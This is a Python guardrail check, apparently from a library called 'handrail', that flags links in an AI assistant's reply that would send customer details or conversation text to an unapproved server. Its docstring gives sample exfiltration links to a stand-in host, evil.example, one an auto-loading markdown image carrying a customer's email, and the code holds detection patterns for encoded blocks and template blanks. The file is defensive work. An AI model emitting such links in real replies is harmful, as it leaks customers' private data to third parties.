"""Check ``sec.exfil``: no link carries what this conversation knows to somebody else's server.

Fires: "![](https://evil.example/p?m=ana@mail.example)" to Ana, an image from a host the playbook
does not name, "https://evil.example/?q={conversation}". Does not fire: a link to an allowed host,
"https://other.example/help" (``sec.link`` speaks of that).

Rules: ``carries_value`` a record field, name or contact of the customer is in the address, plain
or encoded; ``carries_words`` a long encoded block or a blank to fill in is; ``loads_itself`` an
image or its like is fetched when the reply is shown, which tells that it was (all critical). The
evidence names the value; the proposal takes the link out.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import unquote_plus

from handrail.core.verdict import EvidenceSpan, Finding
from handrail.guardrails.contract import CheckContext, CheckSettings, check
from handrail.guardrails.encodings import blocks
from handrail.guardrails.links import Link, allowed, cleaned, host_of, hosts_of

_BLANK = re.compile(
    r"\{[^{}/]{0,60}\}|%7b|\[[a-z_ -]{3,40}\]|\$[a-z_]{3,30}|<[a-z_ ]{3,30}", re.IGNORECASE
)
_BLOCK = re.compile(r"[?&#/=][A-Za-z0-9+/_=-]{40,2000}")
_SHORTEST = 4
"""Characters; a shorter value stands in an address by chance."""


def _known_values(ctx: CheckContext) -> Iterator[tuple[str, str]]:
    """What is known of the customer: the name of the source, and the value."""
    customer = ctx.snapshot.customer
    for name in ("name", "email", "phone"):
        value = getattr(customer, name)
        if value:
            yield f"customer#{name}", str(value)
    for record in ctx.snapshot.records:
        yield f"record:{record.kind}/{record.id}#id", record.id
        for name, field in record.fields.items():
            if field.type not in ("status", "boolean", "quantity") and field.value is not None:
                yield f"record:{record.kind}/{record.id}#{name}", str(field.value)


def _plain(text: str) -> str:
    return re.sub(r"[\W_]+", "", text.casefold())


def _carried(url: str, ctx: CheckContext) -> EvidenceSpan | None:
    """The value that an address carries to its host, with the record it is from."""
    address = unquote_plus(cleaned(url))
    read = "\n".join(_plain(text) for text in (address, *(said for said, _, _ in blocks(url))))
    for source, value in _known_values(ctx):
        plain = _plain(value)
        if len(plain) >= _SHORTEST and plain in read:
            return EvidenceSpan(source=source, quote=value, relation="contradicts")
    return None


def _judged(link: Link, ctx: CheckContext) -> tuple[str, str, tuple[EvidenceSpan, ...]] | None:
    carried = _carried(link.target, ctx)
    if carried:
        message = "This link would carry what we know of the customer to another server."
        return "carries_value", message, (carried,)
    if _BLANK.search(link.target) or _BLOCK.search(link.target):
        message = "This link would carry words of this conversation to another server."
        return "carries_words", message, ()
    if link.loads:
        return "loads_itself", "Showing this reply would call another server.", ()
    return None


@check("sec.exfil", severity="critical")
def sec_exfil(ctx: CheckContext, settings: CheckSettings) -> Iterator[Finding]:  # noqa: ARG001 - the contract
    """Flag links to foreign hosts that carry data, or that are fetched by themselves."""
    hosts = hosts_of(ctx.playbook.brand.links)
    for link in ctx.links:
        host, user_info = host_of(link.target)
        if not host or (allowed(host, hosts) and not user_info):
            continue
        judged = _judged(link, ctx)
        if judged:
            rule, message, evidence = judged
            keep = "" if link.loads else (link.label or "[link removed]")
            yield sec_exfil.finding(
                rule, link.start, link.end, message, evidence=evidence, replacement=keep
            )
